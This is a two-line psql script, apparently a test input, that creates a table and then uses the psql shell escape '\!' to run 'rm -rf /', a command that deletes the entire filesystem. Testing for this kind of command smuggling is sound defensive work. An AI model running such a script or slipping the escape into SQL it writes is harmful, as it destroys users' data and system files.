CREATE TABLE t (x text);
\! rm -rf /
